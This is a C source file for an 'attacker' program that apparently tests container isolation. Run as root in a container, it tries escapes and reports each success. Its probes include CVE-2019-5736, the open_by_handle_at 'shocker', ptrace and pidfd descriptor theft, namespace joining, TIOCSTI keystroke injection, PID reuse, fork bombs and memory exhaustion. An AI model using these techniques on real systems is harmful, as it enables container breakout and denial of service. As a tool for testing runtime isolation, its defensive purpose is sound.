/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * attacker ATTACK [ARG...]: what a container that was broken into does while an operator is
 * attached. Runs inside the container, as its root; static. Each attack goes on until it is killed,
 * or for once. It prints "BREACH: ..." for each thing that it gained; what it may not do is silent.
 */
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void breach(const char *format, ...) __attribute__((format(printf, 1, 2)));
static void breach(const char *format, ...)
{
	char line[512];
	va_list args;

	va_start(args, format);
	int n = vsnprintf(line, sizeof(line) - 1, format, args);
	va_end(args);
	n = n < (int)sizeof(line) - 2 ? n : (int)sizeof(line) - 2;
	line[n++] = '\n';
	if (write(STDOUT_FILENO, "BREACH: ", 8) < 0 || write(STDOUT_FILENO, line, (size_t)n) < 0) {
		_exit(1);
	}
}

/* Calls ACT for each process but ourselves, our parent and the container's init. */
static void each_process(void (*act)(pid_t pid, const char *arg), const char *arg)
{
	DIR *proc = opendir("/proc");

	for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
		pid_t pid = atoi(entry->d_name);

		if (pid > 1 && pid != getpid() && pid != getppid()) {
			act(pid, arg);
		}
	}
	if (proc != NULL) {
		closedir(proc);
	}
}

static bool opens(pid_t pid, const char *name, int flags)
{
	char path[1024];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	int fd = open(path, flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	if (fd >= 0) {
		close(fd);
	}
	return fd >= 0;
}

/* True where PID lives elsewhere than we: what has ended has no root at all. */
static bool is_foreign(pid_t pid)
{
	char path[64];
	struct stat own, other;

	snprintf(path, sizeof(path), "/proc/%d/root", pid);
	if (stat(path, &other) < 0) {
		return errno == EACCES;
	}
	return stat("/", &own) == 0 && (own.st_dev != other.st_dev || own.st_ino != other.st_ino);
}

/* ARG exists on the host and not in the container: by any door of PID's that would lead there. */
static void through_proc(pid_t pid, const char *arg)
{
	static const char *const doors[] = { "root", "cwd", "cwd/../../../../../../..",
		"fd/3/../../../../../../..", "fd/10", "map_files" };
	char path[512];

	for (size_t i = 0; i < sizeof(doors) / sizeof(doors[0]); i++) {
		snprintf(path, sizeof(path), "%s%s", doors[i], arg);
		if (opens(pid, path, O_RDONLY)) {
			breach("/proc/%d/%s is open", pid, path);
		}
	}
}

/* The files of a process that is none of the container's, which has become none in between. */
static void look_inside(pid_t pid, const char *arg)
{
	static const char *const files[] = { "environ", "maps", "auxv", "syscall", "stack" };

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		char file[64];
		char byte;

		if (!is_foreign(pid)) {
			return;
		}
		snprintf(file, sizeof(file), "/proc/%d/%s", pid, files[i]);
		int fd = open(file, O_RDONLY | O_CLOEXEC);
		if (fd >= 0 && read(fd, &byte, 1) > 0 && is_foreign(pid)) {
			breach("%s can be read", file);
		}
		if (fd >= 0) {
			close(fd);
		}
	}
}

/* CVE-2019-5736: the program of who comes in, open for writing. */
static void overwrite_exe(pid_t pid, const char *arg)
{
	char path[64];
	char target[256] = "";

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		return;
	}
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	char self[64];
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	int writable = open(self, O_WRONLY | O_CLOEXEC);
	if (writable >= 0) {
		struct stat opened, named;

		/* The container's own programs it may overwrite. */
		if (n <= 0 || fstat(writable, &opened) < 0 || stat(target, &named) < 0 ||
			opened.st_ino != named.st_ino || opened.st_dev != named.st_dev) {
			breach("%s (%s) is open for writing", path, target);
		}
		close(writable);
	}
	close(fd);
}

static void trace(pid_t pid, const char *arg)
{
	char word[8];
	int status;
	struct iovec local = { word, sizeof(word) };
	struct iovec remote = { (void *)0x400000, sizeof(word) };

	if (!is_foreign(pid)) {
		return;
	}
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
		/* While it is stopped it can't become another. */
		if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) && is_foreign(pid)) {
			breach("process %d is traced", pid);
		}
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	if (syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0) > 0 && is_foreign(pid)) {
		breach("the memory of process %d can be read", pid);
	}
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int i = 0; pidfd >= 0 && i < 32; i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

		if (fd >= 0) {
			if (is_foreign(pid)) {
				breach("descriptor %d of process %d was taken", i, pid);
			}
			close(fd);
		}
	}
	if (pidfd >= 0) {
		close(pidfd);
	}
}

/* A namespace that is none of ours. */
static void join(pid_t pid, const char *arg)
{
	static const char *const names[] = { "mnt", "user", "net", "pid", "uts", "ipc", "cgroup" };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		struct stat own, other;
		char path[64];

		snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
		int r = stat(path, &own);
		snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, names[i]);
		int fd = r == 0 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
		if (fd >= 0 && fstat(fd, &other) == 0 && own.st_ino != other.st_ino) {
			breach("%s is open, another than ours", path);
		}
		if (fd >= 0) {
			close(fd);
		}
	}
}

/* Stops, or kills, whatever comes; what is stopped goes on a little later. */
static void stop(pid_t pid, const char *arg)
{
	if (kill(pid, SIGSTOP) == 0) {
		usleep(2000);
		kill(pid, SIGCONT);
	}
}

static void end(pid_t pid, const char *arg)
{
	kill(pid, SIGKILL);
}

/* The field FIELD of PID's status, a number; -1 where there is none. */
static long status_field(const char *pid, const char *field)
{
	char path[64], line[256];
	long value = -1;

	snprintf(path, sizeof(path), "/proc/%s/status", pid);
	FILE *status = fopen(path, "re");
	while (status != NULL && fgets(line, sizeof(line), status) != NULL) {
		if (strncmp(line, field, strlen(field)) == 0) {
			value = strtol(line + strlen(field), NULL, 10);
		}
	}
	if (status != NULL) {
		fclose(status);
	}
	return value;
}

/*
 * What a session started is killed, and a process of ours takes its pid at once: is anything done
 * to it that was meant for the other? Needs more than a container has (clone3(2), set_tid).
 */
static void reuse(pid_t pid, const char *arg)
{
	struct clone_args args = {
		.exit_signal = SIGCHLD,
		.set_tid = (uintptr_t)&pid,
		.set_tid_size = 1,
	};
	char name[16];
	long child = -1;

	(void)arg;
	snprintf(name, sizeof(name), "%d", pid);
	/* The session's first process has a parent outside. */
	if (!is_foreign(pid) || status_field(name, "PPid:") <= 0 || kill(pid, SIGKILL) < 0) {
		return;
	}
	for (int i = 0; i < 20000 && child < 0; i++) {
		child = syscall(SYS_clone3, &args, sizeof(args));
		if (child < 0 && errno != EEXIST) {
			err(1, "clone3 with a pid");
		}
	}
	for (int i = 0; child == 0 && i < 20; i++) {
		if (status_field("self", "TracerPid:") != 0 ||
			status_field("self", "NoNewPrivs:") != 0) {
			breach("pid %d: it was taken for the one that was killed", pid);
		}
		usleep(1000);
	}
	if (child == 0) {
		_exit(0);
	} else if (child > 0) {
		printf("took pid %d\n", pid);
		waitpid((pid_t)child, NULL, 0);
	}
}

static const struct {
	const char *name;
	void (*act)(pid_t pid, const char *arg);
} on_processes[] = {
	{ "through-proc", through_proc },
	{ "look-inside", look_inside },
	{ "overwrite-exe", overwrite_exe },
	{ "trace", trace },
	{ "join", join },
	{ "stop", stop },
	{ "kill", end },
	{ "reuse", reuse },
};

/* swap A B: the two names change places, as fast as may be. */
static void swap(char **argv)
{
	for (;;) {
		syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE);
	}
}

/* console: input for whoever reads from a virtual console, TIOCLINUX. */
static void console(char **argv)
{
	/* TIOCL_PASTESEL, TIOCL_GETSHIFTSTATE: ioctl_console(2); of a virtual console alone. */
	if (ioctl(STDIN_FILENO, TIOCLINUX, "\3") == 0 ||
		ioctl(STDIN_FILENO, TIOCLINUX, "\6") == 0) {
		breach("TIOCLINUX was taken");
	}
	printf("tried TIOCLINUX\n");
}

/* terminals: input for whoever reads from a terminal of the container's, TIOCSTI. */
static void terminals(char **argv)
{
	for (const char *c = "\ntouch /BREACH\n"; *c != '\0'; c++) {
		if (ioctl(STDIN_FILENO, TIOCSTI, c) < 0) {
			return;
		}
	}
	breach("TIOCSTI was taken");
}

/* node PATH MAJOR MINOR: a block device's. */
static void node(char **argv)
{
	if (mknod(argv[0], S_IFBLK | 0666, makedev(atoi(argv[1]), atoi(argv[2]))) < 0) {
		err(1, "mknod %s", argv[0]);
	}
}

/* reopen: descriptor 0, which somebody gave us to read, for writing. */
static void reopen(char **argv)
{
	int fd = open("/proc/self/fd/0", O_WRONLY | O_TRUNC);

	if (fd >= 0 || open("/proc/self/fd/0", O_RDONLY) >= 0) {
		breach("descriptor 0 was opened again");
	}
}

/* handle: descriptor 0 as the door to its file system, CVE-2014-9357 and the "shocker". */
static void handle(char **argv)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} h = { .handle.handle_bytes = MAX_HANDLE_SZ };
	int mount;

	if (name_to_handle_at(0, "", &h.handle, &mount, AT_EMPTY_PATH) < 0) {
		return;
	}
	int fd = open_by_handle_at(0, &h.handle, O_RDONLY);
	if (fd >= 0) {
		breach("a handle of the host view was opened");
	}
	/* FUSE_ROOT_ID, generation 0: fs/fuse/inode.c, fuse_encode_fh() */
	memset(h.handle.f_handle, 0, 12);
	h.handle.f_handle[4] = 1;
	fd = open_by_handle_at(0, &h.handle, O_RDONLY | O_DIRECTORY);
	if (fd >= 0 && openat(fd, "etc", O_RDONLY) >= 0) {
		breach("the root of the host view was opened by its handle");
	}
}

/* descriptors: those that we were started with. */
static void descriptors(char **argv)
{
	DIR *fds = opendir("/proc/self/fd");

	for (struct dirent *entry; fds != NULL && (entry = readdir(fds)) != NULL;) {
		int fd = atoi(entry->d_name);

		if (entry->d_name[0] != '.' && fd > 2 && fd != dirfd(fds)) {
			breach("descriptor %d was left open", fd);
		}
	}
	char cwd[4096];
	if (getcwd(cwd, sizeof(cwd)) == NULL || cwd[0] != '/') {
		breach("the working directory is outside of the root");
	}
}

/* bomb: processes, as many as there may be. */
static void bomb(char **argv)
{
	for (;;) {
		if (fork() == 0) {
			pause();
		}
	}
}

/* deep: directories, one in the other. */
static void deep(char **argv)
{
	for (int i = 0; i < 1000; i++) {
		if (mkdir("dddddddddddddddddddddddddddddddd", 0755) < 0 && errno != EEXIST) {
			err(1, "mkdir");
		}
		if (chdir("dddddddddddddddddddddddddddddddd") < 0) {
			err(1, "chdir");
		}
	}
}

/* shuffle A B: a directory that is now here, now there. */
static void shuffle(char **argv)
{
	for (;;) {
		rename(argv[0], argv[1]);
		rename(argv[1], argv[0]);
	}
}

/* change: now this user, now that one, and another program each time. */
static void change(char **argv)
{
	static char name[] = "attacker";
	static char self[] = "change";
	char *again[] = { name, self, NULL };
	gid_t group = geteuid() == 0 ? 1000 : 0;

	for (int i = 0; i < 1000; i++) {
		if (seteuid(0) < 0 || setgroups(1, &group) < 0 || setegid(group) < 0 ||
			seteuid(group) < 0) {
			err(1, "become another user");
		}
		group = group == 0 ? 1000 : 0;
	}
	if (seteuid(0) == 0) {
		execv("/proc/self/exe", again);
	}
	err(1, "become another program");
}

/* files N: as many, each with a second name. */
static void files(char **argv)
{
	char name[32];
	char other[32];

	for (int i = 0; i < atoi(argv[0]); i++) {
		snprintf(name, sizeof(name), "file%d", i);
		snprintf(other, sizeof(other), "link%d", i);
		int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		if (fd < 0 || link(name, other) < 0) {
			err(1, "%s", name);
		}
		close(fd);
	}
}

/* memory: all that there is. */
static void memory(char **argv)
{
	for (;;) {
		if (fork() == 0) {
			for (;;) {
				char *some = malloc(1 << 20);

				if (some != NULL) {
					memset(some, 1, 1 << 20);
				}
			}
		}
		wait(NULL);
	}
}

/* hung DIR: a file system on it that never answers. Needs more than a container has. */
static void hung(char **argv)
{
	char options[128];
	const char *device = "/fuse-device";

	if (mknod(device, S_IFCHR | 0600, makedev(10, 229)) < 0) {
		err(1, "%s", device);
	}
	int fd = open(device, O_RDWR | O_CLOEXEC);
	unlink(device);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other",
		fd);
	if (fd < 0 || mount("hung", argv[0], "fuse", 0, options) < 0) {
		err(1, "mount");
	}
	pause();
}

static const struct {
	const char *name;
	int n_args;
	void (*run)(char **argv);
} others[] = {
	{ "swap", 2, swap },
	{ "console", 0, console },
	{ "terminals", 0, terminals },
	{ "node", 3, node },
	{ "reopen", 0, reopen },
	{ "handle", 0, handle },
	{ "descriptors", 0, descriptors },
	{ "bomb", 0, bomb },
	{ "deep", 0, deep },
	{ "shuffle", 2, shuffle },
	{ "change", 0, change },
	{ "files", 1, files },
	{ "memory", 0, memory },
	{ "hung", 1, hung },
};

int main(int argc, char **argv)
{
	const char *name = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	for (size_t i = 0; i < sizeof(on_processes) / sizeof(on_processes[0]); i++) {
		while (strcmp(name, on_processes[i].name) == 0) {
			each_process(on_processes[i].act, argc > 2 ? argv[2] : "");
			usleep(100);
		}
	}
	for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++) {
		if (strcmp(name, others[i].name) == 0 && argc - 2 >= others[i].n_args) {
			others[i].run(argv + 2);
			return 0;
		}
	}
	errx(2, "no such attack: %s", name);
}
